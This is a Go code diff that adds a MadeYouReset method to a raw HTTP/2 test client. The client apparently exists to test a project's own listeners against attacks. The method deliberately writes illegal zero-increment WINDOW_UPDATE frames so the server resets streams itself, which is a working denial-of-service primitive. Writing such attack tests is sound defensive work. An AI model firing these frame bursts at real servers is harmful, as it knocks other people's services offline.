@@ -1,6 +1,7 @@
 // Package h2raw is a raw HTTP/2 client for the listeners' attack tests: it
-// writes its own frames, so it can reset streams in a burst or leave out a
-// call's request message, which a gRPC client never does.
+// writes its own frames, so it can reset streams in a burst, make the
+// server reset them (MadeYouReset) or leave out a call's request message,
+// which a gRPC client never does.
 package h2raw
 
 import (
@@ -59,6 +60,22 @@ func (h *Conn) Streams(n int, reset bool) error {
 		if reset {
 			h.Framer.WriteRSTStream(id, http2.ErrCodeCancel)
 		}
+	}
+	return h.w.Flush()
+}
+
+// MadeYouReset writes n new streams' HEADERS, each followed by a
+// WINDOW_UPDATE of increment 0 on the stream, a protocol error for which
+// the server resets the stream itself (the "MadeYouReset" attack), and
+// flushes.
+func (h *Conn) MadeYouReset(n int) error {
+	h.Framer.AllowIllegalWrites = true
+	defer func() { h.Framer.AllowIllegalWrites = false }()
+	for i := 0; i < n; i++ {
+		id := h.next
+		h.next += 2
+		h.Framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.block, EndHeaders: true})
+		h.Framer.WriteWindowUpdate(id, 0)
 	}
 	return h.w.Flush()
 }
